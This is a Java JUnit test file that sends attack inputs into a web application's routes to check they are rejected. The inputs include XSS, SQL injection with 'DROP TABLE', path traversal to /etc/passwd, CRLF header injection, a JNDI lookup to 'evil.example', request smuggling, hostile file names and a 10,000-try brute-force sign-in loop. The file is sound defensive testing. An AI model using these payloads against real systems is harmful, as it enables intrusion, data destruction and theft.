package dev.hindsight.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hindsight.access.Role;
import dev.hindsight.access.Viewer;
import dev.hindsight.documents.Documents;
import dev.hindsight.web.RandomRequests.Route;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What people send who want more than an answer, into every field of every route.
final class AttacksTest {
    private static final String BOUNDARY = "----attack";
    private static final int TRIES = 5;

    @TempDir private static Path folder;
    private static RealProgram program;
    private static Collection<Route> all = List.of();

    @BeforeAll
    static void start() throws Exception {
        program =
                new RealProgram(folder.resolve("program"), Noninterference.SETTINGS)
                        .person("Carla", Role.CURATOR)
                        .person("Clarisse", Role.CONTRIBUTOR, "BINUB");
        program.get(Documents.class)
                .add(
                        dev.hindsight.testing.MadeUp.random(
                                new Random(1), dev.hindsight.kernel.Label.PUBLIC, "Report"));
        program.settle();
        all = RandomRequests.read().values();
    }

    @AfterAll
    static void stop() {
        program.close();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /// The same text in every place of a route.
    private static HttpResponse<String> send(Caller caller, Route route, String text, String proof)
            throws Exception {
        String path =
                route.template()
                        .replaceAll("\\{form[^}]*}", "txt")
                        .replaceAll("\\{[^}]*}", encoded(text));
        List<SentForm.Field> fields = new ArrayList<>();
        route.fields().keySet().forEach(name -> fields.add(new SentForm.Field(name, text)));
        if (route.method().equals("GET")) {
            return caller.get(fields.isEmpty() ? path : path + "?" + SentForm.encode(fields));
        }
        fields.addFirst(new SentForm.Field("csrf", proof));
        if (!route.fields().containsKey("multipart")) {
            return caller.post(path, Caller.FORM, BodyPublishers.ofString(SentForm.encode(fields)));
        }
        StringBuilder body = new StringBuilder();
        fields.forEach(field -> part(body, "name=\"" + field.name() + "\"", field.value()));
        return caller.post(path, "multipart/form-data; boundary=" + BOUNDARY, end(body));
    }

    private static void part(StringBuilder body, String head, String text) {
        body.append("--").append(BOUNDARY).append("\r\nContent-Disposition: form-data; ");
        body.append(head).append("\r\n\r\n").append(text).append("\r\n");
    }

    private static BodyPublisher end(StringBuilder body) {
        return BodyPublishers.ofString(body + "--" + BOUNDARY + "--\r\n");
    }

    private static Caller signedIn(String name) throws Exception {
        Caller caller = new Caller(program.uri());
        assertThat(caller.signIn(name, "/").statusCode()).isEqualTo(303);
        return caller;
    }

    private static String proof(Caller caller) throws Exception {
        return Caller.field(caller.get("/push").body(), "csrf");
    }

    private static Stream<Route> routes() {
        return all.stream().filter(route -> !route.template().startsWith("/sign-"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"><script>alert(1)</script>",
                "' onmouseover='alert(1)' x='",
                "javascript:alert(1)",
                "<img src=x onerror=alert(1)>",
                "' OR '1'='1",
                "'; DROP TABLE document; --",
                "%_\\",
                "../../../../etc/passwd",
                "a\r\nSet-Cookie: planted=1\r\n\r\n<html>",
                "\u0000\u0001\u202e",
                "${jndi:ldap://evil.example/a}{{7*7}}"
            })
    void textIsTextWhereverItStands(String text) throws Exception {
        long before = program.get(Documents.class).count(new Viewer.Owner());
        List<String> problems = new ArrayList<>();
        try (Caller carla = signedIn("Carla")) {
            String proof = proof(carla);
            for (Route route : routes().toList()) {
                HttpResponse<String> response = send(carla, route, text, proof);
                String key = route.key();
                problems.addAll(PolicyTest.problems(key, response));
                if (response.statusCode() >= 500) {
                    problems.add(key + " answers " + response.statusCode());
                }
                if (response.headers().map().toString().contains("planted")
                        || response.body().contains("root:x:")) {
                    problems.add(key + " was taken in");
                }
                response.headers()
                        .firstValue("location")
                        .filter(to -> !to.matches("/(?![/\\\\]).*"))
                        .ifPresent(to -> problems.add(key + " leads to " + to));
            }
        }
        assertThat(problems).isEmpty();
        assertThat(program.get(Documents.class).count(new Viewer.Owner())).isEqualTo(before);
    }

    @Test
    void noFormGoesThroughWithoutItsProofOrWithAWrongOne() throws Exception {
        List<String> through = new ArrayList<>();
        try (Caller carla = signedIn("Carla")) {
            for (Route route : all.stream().filter(it -> it.method().equals("POST")).toList()) {
                for (String wrong : List.of("", "wrong", "0".repeat(64))) {
                    int status = send(carla, route, "a", wrong).statusCode();
                    if (status != 403) {
                        through.add(route.key() + " answers " + status);
                    }
                }
            }
        }
        assertThat(through).isEmpty();
    }

    private static HttpResponse<String> handIn(Caller clarisse, String name) throws Exception {
        StringBuilder body = new StringBuilder();
        part(body, "name=\"csrf\"", proof(clarisse));
        part(body, "name=\"key\"", encoded(name));
        part(body, "name=\"label\"", "public");
        part(body, "name=\"contact\"", "desk 7");
        part(
                body,
                "name=\"file\"; filename=\"" + name + "\"\r\nContent-Type: text/html",
                "After-action review of BINUB\n\nPosts stood empty: " + name);
        return clarisse.post("/hand-in", "multipart/form-data; boundary=" + BOUNDARY, end(body));
    }

    private static void safe(HttpResponse<String> original) {
        assertThat(original.headers().firstValue("content-type"))
                .hasValue("application/octet-stream");
        assertThat(original.headers().firstValue("content-disposition").orElse(""))
                .startsWith("attachment")
                .doesNotContain("/", "\\");
        assertThat(original.headers().map()).doesNotContainKey("set-cookie");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../tmp/planted.txt",
                "..\\\\..\\\\planted.txt",
                "/etc/cron.d/planted",
                "planted.txt%0d%0aSet-Cookie: planted=1",
                "planted\u202etxt.exe",
                "CON.txt"
            })
    void theNameOfAFileOnlyNamesIt(String name) throws Exception {
        try (Caller clarisse = signedIn("Clarisse")) {
            HttpResponse<String> sent = handIn(clarisse, name);
            assertThat(sent.statusCode()).isIn(303, 422);
            if (sent.statusCode() == 303) {
                String page = sent.headers().firstValue("location").orElseThrow();
                safe(clarisse.get(page + "/original"));
            }
        }
        try (Stream<Path> files = Files.walk(folder)) {
            assertThat(files.map(file -> file.getFileName().toString()))
                    .noneMatch(file -> file.contains("planted"));
        }
        assertThat(Path.of("/tmp/planted.txt")).doesNotExist();
    }

    /// Bytes as they are, and the first line of the answer; empty where the line was cut.
    private static String raw(String request) throws Exception {
        try (Socket socket = new Socket("localhost", program.uri().getPort())) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readNBytes(12), StandardCharsets.ISO_8859_1);
        }
    }

    @Test
    void whatCouldBeTwoRequestsIsNone() throws Exception {
        String head = "POST /push HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
        assertThat(raw(head + "Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd"))
                .isEqualTo("HTTP/1.1 400");
        assertThat(raw(head + "Content-Length: x\r\n\r\nabcd")).isEqualTo("HTTP/1.1 400");
        assertThat(
                        raw(
                                head
                                        + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /"))
                .doesNotStartWith("HTTP/1.1 2");
    }

    @Test
    void whatIsTooLongForAHeadIsRefused() throws Exception {
        String end = " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
        assertThat(raw("GET /" + "a".repeat(100_000) + end + "\r\n"))
                .matches("HTTP/1.. 4(00|13|14)");
        assertThat(raw("GET /about" + end + "X-Long: " + "a".repeat(100_000) + "\r\n\r\n"))
                .matches("HTTP/1.. 4(00|13|31)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/assets/../../etc/passwd",
                "/assets/..%2f..%2fetc/passwd",
                "/assets/%2e%2e/%2e%2e/etc/passwd",
                "/documents/..%2f..%2fetc%2fpasswd/original",
                "/..;/jobs",
                "//evil.example/%2e%2e"
            })
    void noPathLeadsOut(String path) throws Exception {
        assertThat(raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                .matches("HTTP/1.1 (4..|30.)");
    }

    @Test
    void noPageNamesTheHostThatARequestClaims() throws Exception {
        try (Socket socket = new Socket("localhost", program.uri().getPort())) {
            socket.getOutputStream()
                    .write(
                            String.join(
                                            "\r\n",
                                            "GET / HTTP/1.1",
                                            "Host: evil.example",
                                            "X-Forwarded-Host: evil.example",
                                            "Connection: close",
                                            "",
                                            "")
                                    .getBytes(StandardCharsets.ISO_8859_1));
            String answer =
                    new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(answer).startsWith("HTTP/1.1 200").doesNotContain("evil.example");
        }
    }

    /// An attempt to sign in.
    private static int attempt(Caller caller, String proof, String name, String password)
            throws Exception {
        String fields = Caller.encoded("csrf", proof, "name", name, "password", password);
        var request =
                caller.request("/sign-in")
                        .header("Content-Type", Caller.FORM)
                        .header("X-Forwarded-For", name.equals("Rita") ? "192.0.2.9" : "192.0.2.8")
                        .POST(BodyPublishers.ofString(fields));
        return caller.send(request).statusCode();
    }

    @Test
    void tenThousandAttemptsToSignInAreFewTries(@TempDir Path other) throws Exception {
        Map<String, Object> settings =
                Map.of(
                        "hindsight.limits.sign-in",
                        TRIES,
                        "hindsight.limits.trusted-proxies",
                        "127.0.0.1");
        try (RealProgram guarded = new RealProgram(other, settings).person("Rita", Role.READER);
                Caller caller = new Caller(guarded.uri())) {
            String proof = Caller.field(caller.get("/sign-in").body(), "csrf");
            int tried = 0;
            for (int i = 0; i < 10_000; i++) {
                tried += attempt(caller, proof, "guess" + i, "guess") == 429 ? 0 : 1;
            }
            assertThat(tried).isLessThan(10_000 / 10);
            assertThat(guarded.get(RateLimits.class).size()).isEqualTo(1);
            // and whoever comes from elsewhere does not notice
            assertThat(attempt(caller, proof, "Rita", MadeUpAccounts.PASSWORD)).isEqualTo(303);
        }
    }
}
